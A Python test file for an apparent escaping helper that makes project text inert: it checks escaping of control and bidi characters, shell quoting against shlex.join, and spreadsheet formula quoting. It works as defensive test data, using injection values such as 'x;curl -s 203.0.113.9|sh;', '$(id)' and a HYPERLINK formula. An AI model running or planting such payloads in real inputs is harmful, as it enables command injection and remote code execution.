"""inert_text: what a project wrote, shown so that it cannot act."""

import shlex

from xloudclient import inert_text


def test_controls_bidi_and_separators_become_visible_escapes():
    text = 'a\x1b[2J\x07\x00\r\n\t\x85\x9b\u202e\u2066\u2069\u200b' \
        '\u2028\u2029\xa0\U000e0001z'
    shown = inert_text.visible(text)
    assert shown == ('a\\x1b[2J\\x07\\x00\\r\\n\\t\\x85\\x9b\\u202e\\u2066'
                     '\\u2069\\u200b\\u2028\\u2029\\xa0\\U000e0001z')
    assert shown.isprintable()


def test_printable_text_is_unchanged_whatever_it_contains():
    for text in ('', 'web-01', 'café ünïcode 日本', "quote's \"x\" \\ %20",
                 'x;curl -s 203.0.113.9|sh;', 'x' * 255):
        assert inert_text.visible(text) == text


def test_a_command_splits_back_into_exactly_its_arguments():
    argv = ['openstack', 'network', 'harden', 'accept', 'x;curl a|sh;',
            "it's", '$(id)', '`id`', 'a\nb', '', '-', '--x=y z', '\\', '%0A']
    line = inert_text.command(*argv)
    assert shlex.split(line) == argv
    # shown in a text format it splits into the visible arguments
    assert shlex.split(inert_text.visible(line)) == [
        inert_text.visible(a) for a in argv]


def test_a_cell_that_would_start_a_formula_is_quoted_as_owasp_says():
    for text in ('=HYPERLINK("http://x","open")', '+1', '-2+3', '@SUM(A1)',
                 '\tx', '\rx'):
        assert inert_text.no_formula(text) == "'" + text
    for text in ('web', ' =1', "'=1", '', 'a=b', '1-2'):
        assert inert_text.no_formula(text) == text


def test_a_command_is_what_shlex_join_gives_every_time():
    words = ['openstack', 'rule', 'delete', 'a-b_c.d/e:f,g=h@i%j+k', '',
             'x y', "it's", 'ünï', '日本', '-', '--to', '<management-cidr>',
             '0.0.0.0/0', 'a\nb', '*', '~', '#x']
    for i, first in enumerate(words):
        for second in words[i:]:
            argv = ('openstack', first, second, 42)
            assert inert_text.command(*argv) == shlex.join(
                str(a) for a in argv)


def test_a_command_of_words_of_every_shape_is_shlex_join():
    # the whole-line path (safe words, the placeholder) and the word-by-word
    # one give what shlex.join gives, whatever mix of words and spaces
    import itertools
    import random
    pieces = ['a', 'ID-1_x', '<management-cidr>', '<management-cidr>x',
              'x<management-cidr>', '<', '', ' ', 'a b', '--to', "'", 'é',
              '\n', '0.0.0.0/0', 'a  b', '<management-cidr> ', '>', 'b>',
              '<management-cidr', 'management-cidr>']
    rng = random.Random(7)
    for n in range(1, 5):
        for argv in itertools.product(pieces, repeat=min(n, 2)):
            argv = list(argv) + rng.sample(pieces, n - min(n, 2))
            assert inert_text.command(*argv) == shlex.join(argv)
            assert shlex.split(inert_text.command(*argv)) == argv
    assert inert_text.command() == ''
    assert inert_text.command('a', 7, None) == "a 7 None"
